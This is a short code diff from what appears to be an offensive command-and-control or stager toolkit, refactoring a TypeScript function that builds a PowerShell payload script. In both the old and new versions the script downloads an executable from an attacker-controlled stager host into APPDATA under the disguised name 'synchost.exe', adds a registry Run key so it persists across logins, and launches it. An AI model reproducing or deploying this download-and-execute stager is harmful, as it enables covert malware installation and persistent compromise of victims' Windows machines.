@@ -26,7 +26,10 @@ export function stagerScript(cast: Cast): string {
 
 /** What the first script brings and runs: fetch the implant, start it. */
 export function payloadScript(cast: Cast): string {
-  return `$p="$env:APPDATA\\SyncHost";mkdir $p -Force|Out-Null;(New-Object Net.WebClient).DownloadFile('http://${cast.stager.host}${PAYLOAD_PATH}',"$p\\synchost.exe");Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name SyncHost -Value "$p\\synchost.exe";Start-Process "$p\\synchost.exe"`;
+  return [
+    '$p="$env:APPDATA\\SyncHost"', 'mkdir $p -Force|Out-Null', `(New-Object Net.WebClient).DownloadFile('http://${cast.stager.host}${PAYLOAD_PATH}',"$p\\synchost.exe")`,
+    "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name SyncHost -Value \"$p\\synchost.exe\"", 'Start-Process "$p\\synchost.exe"',
+  ].join(';');
 }
 
 export function encodedCommand(cast: Cast): string {
